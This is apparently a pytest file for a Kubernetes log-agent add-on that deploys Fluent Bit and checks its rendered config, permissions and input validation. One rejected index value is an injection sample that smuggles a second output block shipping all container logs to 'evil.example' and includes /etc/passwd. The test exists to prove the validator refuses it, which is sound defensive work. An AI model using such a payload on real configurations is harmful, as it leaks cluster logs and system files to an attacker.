"""The log agent: a Fluent Bit DaemonSet with a read-only view of node logs and pod metadata."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from pilothouse.addons.log_agent import LogAgent, LogAgentArgs, LogSink
from pilothouse.errors import InvalidValueError
from pilothouse.kubernetes.namespace import Namespace, NamespaceArgs, PodSecurityLevel
from pilothouse.offline.render import manifest
from tests.conftest import RunProgram
from tests.messages import LABEL_VALUE


def test_ships_container_logs_to_elasticsearch_as_the_course_draws_it(run_program: RunProgram) -> None:
    def program() -> None:
        namespace = Namespace("logging", NamespaceArgs(name="logging", pod_security=PodSecurityLevel.PRIVILEGED))
        LogAgent("logs", LogAgentArgs(namespace=namespace, sink=LogSink.elasticsearch("es.logging.svc"),
                                      node_selector={"disktype": "ssd"}))

    render = run_program(program)
    config = manifest(render.one("kubernetes:core/v1:ConfigMap"))["data"]["fluent-bit.conf"]
    assert "[INPUT]\n    Name tail\n    Path /var/log/containers/*.log\n" in config
    assert "[FILTER]\n    Name kubernetes\n" in config
    assert config.endswith("[OUTPUT]\n    Name es\n    Match kube.*\n    Host es.logging.svc\n    Port 9200\n"
                           "    tls On\n    Index kubernetes\n    Suppress_Type_Name On\n    Replace_Dots On\n")
    pod = render.one("kubernetes:apps/v1:DaemonSet").inputs["spec"]["template"]["spec"]
    assert pod["nodeSelector"] == {"disktype": "ssd"}
    assert (pod["serviceAccountName"], pod["automountServiceAccountToken"]) == ("log-agent", True)
    agent = pod["containers"][0]
    assert {m["mountPath"]: m.get("readOnly") for m in agent["volumeMounts"]} == {
        "/var/log": True, "/fluent-bit/etc/pilothouse": True, "/tmp": None}
    assert agent["securityContext"] == {
        "allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}, "readOnlyRootFilesystem": True,
        "runAsNonRoot": False, "runAsUser": 0, "seccompProfile": {"type": "RuntimeDefault"}}
    daemon_set = render.one("kubernetes:apps/v1:DaemonSet").inputs["metadata"]
    assert daemon_set["annotations"]["policy.pilothouse.io/runs-as-root"].startswith("reads container log files")
    role = render.one("kubernetes:rbac.authorization.k8s.io/v1:ClusterRole").inputs
    assert role["rules"] == [{"apiGroups": [""], "resources": ["namespaces", "pods"],
                              "verbs": ["get", "list", "watch"]}]
    binding = render.one("kubernetes:rbac.authorization.k8s.io/v1:ClusterRoleBinding").inputs
    assert binding["subjects"] == [{"kind": "ServiceAccount", "name": "log-agent", "namespace": "logging"}]


def test_stdout_and_forward_sinks() -> None:
    assert LogSink.stdout().output() == "[OUTPUT]\n    Name stdout\n    Match kube.*\n    Format json_lines\n"
    assert "Name forward\n    Match kube.*\n    Host fluentd.logging\n    Port 24224\n" in LogSink.forward(
        "fluentd.logging").output()


HOST = ("an IPv4 address or a lowercase DNS host name such as 'elasticsearch.logging.svc' (RFC 1123: labels of 1-63 "
        "letters, digits and '-', at most 253 characters)")
INDEX = ("an Elasticsearch index name of 1-254 characters: lowercase letters a-z, digits, '.', '_' and '-', starting "
         "with a letter or digit")


@pytest.mark.parametrize("host", ["es", "10.0.0.1", "elasticsearch.logging.svc", "a" * 63 + ".svc", "es-1.b2"])
@pytest.mark.parametrize("index", ["kubernetes", "logs-2026.11", "k8s_logs", "0abc", "a" * 254])
def test_hosts_and_indexes_the_config_file_carries_as_they_are(host: str, index: str) -> None:
    assert f"    Host {host}\n" in LogSink.elasticsearch(host, index=index).output()
    assert f"    Index {index}\n" in LogSink.elasticsearch(host, index=index).output()


@pytest.mark.parametrize("host", ["http://es:9200", "a..b", "a.-b", "-a", "a-", "1.2.3.999", "10.0.0.01", "ES",
                                  "fd00::1", "a" * 64 + ".svc", "es\n[OUTPUT]", "a b", "${HOST}", "", ".a", "a.",
                                  "é.svc", "a." * 127 + "ab"])
def test_hosts_that_are_not_host_names_are_refused(host: str) -> None:
    with pytest.raises(InvalidValueError) as error:
        LogSink.forward(host)
    assert str(error.value) == str(InvalidValueError("log_agent.sink.host", host, HOST))  # long values are cut


@pytest.mark.parametrize("index", [
    "", "-a", "_a", "+a", ".", "..", ".hidden", "Upper", "a b", "a,b", "a#b", "a:b", 'a"b', "a\\b", "a/b", "a*b",
    "a?b", "a<b", "a>b", "a|b", "a+b", "a%Y", "${X}", "a\rb", "a\x00b", "a" * 255, "ı",
    # The injection: a second output shipping every container log elsewhere.
    "k8s\n[OUTPUT]\n    Name http\n    Host evil.example\n@INCLUDE /etc/passwd"])
def test_index_names_that_would_change_the_config_file_are_refused(index: str) -> None:
    with pytest.raises(InvalidValueError) as error:
        LogSink.elasticsearch("es", index=index)
    assert str(error.value) == str(InvalidValueError("log_agent.sink.index", index, INDEX))


@pytest.mark.parametrize(("build", "message"), [
    (lambda: LogSink.elasticsearch("http://es:9200"), f"log_agent.sink.host: got 'http://es:9200'; expected {HOST}"),
    (lambda: LogAgentArgs(namespace="ops", sink=LogSink.stdout(), node_selector={"disktype": "s s d"}),
     f"log_agent.node_selector['disktype']: got 's s d'; expected {LABEL_VALUE}"),
    (lambda: LogSink.forward("fluentd", port=70000),
     "log_agent.sink.port: got 70000; expected a port number from 1 to 65535"),
    (lambda: LogAgent("logs", LogAgentArgs(namespace=Namespace("ops", NamespaceArgs(name="ops")),
                                           sink=LogSink.stdout())),
     "log_agent.namespace: got 'ops'; expected a namespace with Pod Security 'privileged' (the agent reads the "
     "node's /var/log through a hostPath volume)"),
])
def test_bad_log_agent_settings_are_rejected(run_program: RunProgram, build: Callable[[], object],
                                             message: str) -> None:
    with pytest.raises(InvalidValueError) as error:
        run_program(build)
    assert str(error.value) == message
